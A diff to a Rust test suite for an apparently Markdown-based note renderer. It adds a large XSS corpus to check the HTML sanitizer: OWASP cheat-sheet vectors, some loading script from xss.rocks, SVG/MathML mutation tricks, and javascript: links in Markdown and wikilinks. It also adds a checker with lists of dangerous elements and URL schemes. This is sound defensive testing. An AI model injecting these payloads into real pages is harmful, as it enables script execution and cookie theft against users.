@@ -151,29 +151,308 @@ fn xss_corpus_is_removed() {
         "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('x17')\">",
         "<base href=\"javascript:alert('x18')//\">",
     ];
-    let body = corpus.join("\n\n");
+    let mut body = corpus.join("\n\n");
+    for vector in OWASP.iter().chain(SVG_MATHML).chain(LINKS) {
+        body.push_str("\n\n");
+        body.push_str(vector);
+    }
     let v = vault(&[("x.md", &body), ("Note.md", "n")]);
     let html = render(&v, "x.md");
-    // Look only at markup: text is escaped, so `<` starts a real tag.
-    let tags: Vec<String> =
-        html.split('<').skip(1).map(|t| t.split('>').next().unwrap_or("").to_lowercase()).collect();
-    assert!(!html.contains("alert('x1')"), "script bodies are dropped");
-    for bad in [
-        "<script",
-        "onerror",
-        "onclick",
-        "onload",
-        "ontoggle",
-        "javascript:",
-        "<iframe",
-        "<object",
-        "<style",
-        "<form",
-        "<meta",
-        "<base",
-        "data:text",
-    ] {
-        let bad = bad.trim_start_matches('<');
-        assert!(!tags.iter().any(|t| t.contains(bad)), "`{bad}` survived in a tag:\n{html}");
+    assert_markup_is_inert(&html);
+    // Each vector also alone: one that breaks the parser's state must not
+    // hide the next one, and none may hide behind another.
+    for vector in corpus.iter().chain(OWASP).chain(SVG_MATHML).chain(LINKS) {
+        let v = vault(&[("x.md", vector), ("Note.md", "n")]);
+        assert_markup_is_inert(&render(&v, "x.md"));
     }
+    assert!(!html.contains("alert('x1')"), "script bodies are dropped");
+}
+
+/// OWASP's XSS filter evasion cheat sheet (a selection: the vectors that
+/// apply to an HTML sanitizer rather than to a server's input filter).
+const OWASP: &[&str] = &[
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<a onmouseover=alert(document.cookie)>xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "<SCRIPT SRC=//xss.rocks/.j>",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    "<iframe src=http://xss.rocks/scriptlet.html <",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"javascript&colon;alert(1)\">x</a>",
+    "<a href=\"java\0script:alert(1)\">x</a>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<a href=\"#\" formaction=\"javascript:alert(1)\">x</a><button formaction=javascript:alert(1)>b</button>",
+    "<video poster=javascript:alert(1)//></video><audio src=x onerror=alert(1)>",
+    "<img srcset=\"javascript:alert(1) 1x\">",
+];
+
+/// SVG and MathML payloads, and the mutation-XSS tricks that use their
+/// foreign-content parsing rules.
+const SVG_MATHML: &[&str] = &[
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
+    "<svg><a href=\"javascript:alert(1)\"><circle r=\"40\"/></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
+    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
+    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
+    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x\"/></svg>",
+    "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<svg><title><img src=x onerror=alert(1)></title></svg>",
+    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x<mtext>y</mtext></maction></math>",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></path></textarea></mtext></svg></mglyph></mi></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "$\\href{javascript:alert(1)}{x}$ and $$\\url{javascript:alert(1)}$$",
+];
+
+/// `javascript:` (and friends) in Markdown link URLs and in wikilinks.
+const LINKS: &[&str] = &[
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](java&#9;script:alert(1))",
+    "[x](java%09script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]( javascript:alert(1) )",
+    "[x](javascript:alert(1) \"title\")",
+    "![x](javascript:alert(1))",
+    "[x](vbscript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "[x](\"><script>alert(1)</script>)",
+    "[x](https://ok.example/\"onmouseover=\"alert(1))",
+    "[[Note|javascript:alert(1)]]",
+    "[[Note|<img src=x onerror=alert(1)>]]",
+    "[[javascript:alert(1)]]",
+    "[[javascript:alert(1)|click]]",
+    "![[javascript:alert(1)]]",
+    "[[JaVaScRiPt:alert(1)|x]]",
+    "[[Note#\"><script>alert(1)</script>]]",
+    "[[Note#x\" onmouseover=\"alert(1)]]",
+    "[[Note^x\" onmouseover=\"alert(1)]]",
+    "![[Note|100\" onerror=\"alert(1)]]",
+    "[x](<Note.md> \"\" onmouseover=\"alert(1)\")",
+    "> [!note] <img src=x onerror=alert(1)>\n> body",
+    "# \"><img src=x onerror=alert(1)>",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "<span class=\"keyword-row\"><span class=\"inline-keyword\" onclick=\"alert(1)\">k</span></span>",
+    "<div class=\"linkage-tree\"><a href=\"javascript:alert(1)\">k</a> [[javascript:alert(1)]]</div>",
+    "<div class=\"brain-dump\"><ul><li><strong>L:</strong> <img src=x onerror=alert(1)></li></ul></div>",
+];
+
+/// Decode the character references a serializer may leave in an attribute.
+fn decode_refs(value: &str) -> String {
+    let mut out = String::new();
+    let mut rest = value;
+    while let Some(i) = rest.find('&') {
+        out.push_str(&rest[..i]);
+        rest = &rest[i..];
+        let end = rest.find(';').unwrap_or(rest.len());
+        let name = &rest[1..end];
+        let ch = match name {
+            "amp" => Some('&'),
+            "quot" => Some('"'),
+            "lt" => Some('<'),
+            "gt" => Some('>'),
+            "colon" => Some(':'),
+            "Tab" => Some('\t'),
+            "NewLine" => Some('\n'),
+            _ if name.starts_with("#x") || name.starts_with("#X") => {
+                u32::from_str_radix(&name[2..], 16).ok().and_then(char::from_u32)
+            }
+            _ if name.starts_with('#') => name[1..].parse().ok().and_then(char::from_u32),
+            _ => None,
+        };
+        match ch {
+            Some(c) => {
+                out.push(c);
+                rest = rest.get(end + 1..).unwrap_or("");
+            }
+            None => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The attributes of one tag (the text between `<` and `>`), names lowercased.
+fn attributes(tag: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut rest = tag.trim_start_matches(|c: char| c != ' ' && c != '/' && c != '\n' && c != '\t');
+    loop {
+        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
+        if rest.is_empty() {
+            return out;
+        }
+        let name_end = rest.find(|c: char| c.is_whitespace() || c == '=' || c == '/').unwrap_or(rest.len());
+        let name = rest[..name_end].to_ascii_lowercase();
+        rest = rest[name_end..].trim_start();
+        let mut value = String::new();
+        if let Some(after) = rest.strip_prefix('=') {
+            let after = after.trim_start();
+            let (v, r) = match after.chars().next() {
+                Some(q @ ('"' | '\'')) => {
+                    let body = &after[1..];
+                    let end = body.find(q).unwrap_or(body.len());
+                    (&body[..end], body.get(end + 1..).unwrap_or(""))
+                }
+                _ => {
+                    let end = after.find(char::is_whitespace).unwrap_or(after.len());
+                    (&after[..end], &after[end..])
+                }
+            };
+            value = decode_refs(v);
+            rest = r;
+        }
+        out.push((name, value));
+    }
+}
+
+/// Whether sanitized `html` can run script: a dangerous element, an event
+/// handler, a style, or a URL attribute whose scheme (as a browser reads it:
+/// references decoded, tabs, newlines and controls removed, any case) is
+/// `javascript:`, `vbscript:` or `data:`.
+#[track_caller]
+fn assert_markup_is_inert(html: &str) {
+    const ELEMENTS: &[&str] = &[
+        "script",
+        "iframe",
+        "object",
+        "embed",
+        "style",
+        "form",
+        "meta",
+        "base",
+        "link",
+        "button",
+        "frame",
+        "frameset",
+        "applet",
+        "svg",
+        "foreignobject",
+        "animate",
+        "set",
+        "use",
+        "textarea",
+        "noscript",
+        "body",
+        "title",
+        "video",
+        "audio",
+    ];
+    const URL_ATTRS: &[&str] = &[
+        "href",
+        "src",
+        "xlink:href",
+        "action",
+        "formaction",
+        "data",
+        "background",
+        "dynsrc",
+        "lowsrc",
+        "poster",
+        "srcset",
+        "to",
+        "values",
+        "from",
+        "by",
+    ];
+    // Text is escaped, so every `<` starts real markup.
+    for tag in html.split('<').skip(1).map(|t| t.split('>').next().unwrap_or("")) {
+        let name: String = tag
+            .trim_start_matches('/')
+            .chars()
+            .take_while(|c| !c.is_whitespace() && *c != '/')
+            .collect::<String>()
+            .to_ascii_lowercase();
+        assert!(!ELEMENTS.contains(&name.as_str()), "<{name}> survived: <{tag}>\n{html}");
+        for (attr, value) in attributes(tag) {
+            assert!(!attr.starts_with("on"), "event handler `{attr}` survived: <{tag}>\n{html}");
+            assert!(attr != "style", "a style survived: <{tag}>\n{html}");
+            if name == "input" && attr == "type" {
+                assert_eq!(value, "checkbox", "only task-list checkboxes: <{tag}>\n{html}");
+            }
+            if URL_ATTRS.contains(&attr.as_str()) {
+                let read: String = value
+                    .chars()
+                    .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
+                    .collect::<String>()
+                    .to_ascii_lowercase();
+                for scheme in ["javascript:", "vbscript:", "data:"] {
+                    assert!(!read.starts_with(scheme), "`{scheme}` URL survived: <{tag}>\n{html}");
+                }
+            }
+        }
+    }
+}
+
+/// The checker itself: each of these must be caught (else the corpus test
+/// above would pass whatever the sanitizer let through).
+#[test]
+fn inertness_check_catches_live_markup() {
+    for live in [
+        "<p><a href=\"jav&#x09;ascript:alert(1)\">x</a></p>",
+        "<a href=' JavaScript:alert(1)'>x</a>",
+        "<img src=x onerror=alert(1)>",
+        "<svg><a xlink:href=\"data:text/html,x\">x</a></svg>",
+        "<p style=\"x\">x</p>",
+        "<input type=\"password\">",
+        "<SCRIPT>x</SCRIPT>",
+    ] {
+        let caught = std::panic::catch_unwind(|| assert_markup_is_inert(live)).is_err();
+        assert!(caught, "not caught: {live}");
+    }
+    assert_markup_is_inert("<p><a href=\"/n/Note/\" rel=\"noopener noreferrer\">javascript:alert(1)</a></p>");
 }
